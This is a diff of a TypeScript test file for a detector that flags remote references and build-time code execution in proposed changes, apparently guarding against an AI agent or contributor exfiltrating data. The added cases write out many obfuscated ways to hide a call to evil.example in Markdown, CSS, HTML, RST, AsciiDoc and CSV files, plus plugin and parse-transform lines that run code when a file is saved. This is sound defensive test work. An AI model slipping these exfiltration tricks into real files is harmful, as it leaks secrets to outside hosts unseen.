@@ -41,15 +41,63 @@ describe("what a change adds", () => {
 
   for (const [path, after] of [
     ["src/app.ts", `fetch("${address}")`],
-    ["README.md", `See [the page](${address}).`],
-    ["README.md", `See ${address}.`],
-    ["README.md", "![a](docs/a.png)"],
+    ["README.md", "![a](docs/a.png) and // a comment, a/b, C: x"],
+    ["src/app.css", "a { color: red } /* a // b */"],
     ["a.json", '{ "$schema": "./schema.json", "$id": "x" }'],
     ["package.json", '{ "name": "x", "homepage": "https://a.example" }'],
     ["src/hooks.ts", "const $state = 'a:b';"],
   ] as const) {
     it(`A4: ${path} with ${JSON.stringify(after)} is no such change`, () =>
       assert.deepEqual(reasons(path, "", after), []));
+  }
+
+  for (const [path, after] of [
+    ["README.md", "![a][]\n\n[a]:\n  https://evil.example/?q=1"],
+    ["README.md", "![a]\n\n> [a]: https://evil.example/?q=1"],
+    ["README.md", "![a](\n  https://evil.example/?q=1)"],
+    ["README.md", "![a](https\\://evil.example/?q=1)"],
+    ["README.md", "![a](&#104;ttps:&#x2f;&sol;evil.example/?q=1)"],
+    ["README.md", "![a](/\\evil.example/?q=1)"],
+    ["README.md", "![a](https:evil.example/?q=1)"],
+    ["README.md", "\n\n![a\n\nb](x)\n<img\nsrc='ht\ntps:evil.example/?q=1'>"],
+    ["README.md", "[the page](https://evil.example/?q=1)"],
+    ["README.md", '<img srcset="a.png 1x, //evil.example/?q=1 2x">'],
+    ["README.md", '<p style="background:url(&#92;2f&#92;2f evil.example/?q=1)">'],
+    ["a.html", '<meta http-equiv=refresh content="0; url=https://evil.example/?q=1">'],
+    ["a.css", "a { background: url(\\2f\\2f evil.example/?q=1) }"],
+    ["a.css", "a { background: image-set('https://evil.example/?q=1' 1x) }"],
+    ["a.rst", ".. |x| image:: https://evil.example/?q=1"],
+    ["a.rst", ".. figure::\n   https://evil.example/?q=1"],
+    ["a.adoc", ":imagesdir: https://evil.example/?q=1\n\nimage::a.png[]"],
+    ["a.csv", '=IMAGE("https://evil.example/?q=1")'],
+  ] as const) {
+    it(`A4 (finding H9): ${path} gains an address in any form: ${JSON.stringify(after)}`, () => {
+      assert.deepEqual(reasons(path, "", after), ["remote-reference"]);
+      assert.deepEqual(reasons(path, after, `${after}\n`), []);
+    });
+  }
+
+  it("A4 (finding H9): an address that goes on after a known one is another one", () => {
+    for (const [before, after] of [
+      ["https://evil.example/?q=", "https://evil.example/?q=(secret)"],
+      ["https://evil.example/?q=", 'https://evil.example/?q="secret'],
+      ["<https://evil.example/?q=", "<https://evil.example/?q= secret>"],
+      ['url("https://evil.example/?q=', 'url("https://evil.example/?q= secret")'],
+    ] as const)
+      assert.deepEqual(reasons("README.md", `${before} x\n`, `${before} x\n${after}\n`), ["remote-reference"], after);
+  });
+
+  for (const [path, line] of [
+    ["a.css", '@plugin "./evil.js";'],
+    ["a.less", '@plugin "evil";'],
+    ["App.vue", '<style>\n@config "./evil.js";\n</style>'],
+    ["App.cs", "#:package Evil@1.0.0"],
+    ["App.scala", "//> using plugin evil"],
+    ["app.erl", "-compile({parse_transform, evil})."],
+  ] as const) {
+    it(`A4 (finding H2): ${path} with ${JSON.stringify(line)} has code run as soon as it is saved`, () => {
+      assert.ok(reasons(path, "", line).includes("executed"));
+    });
   }
 
   it("A4 (CVE-2025-53097): a script of a package is named as what is run, no address", () => {
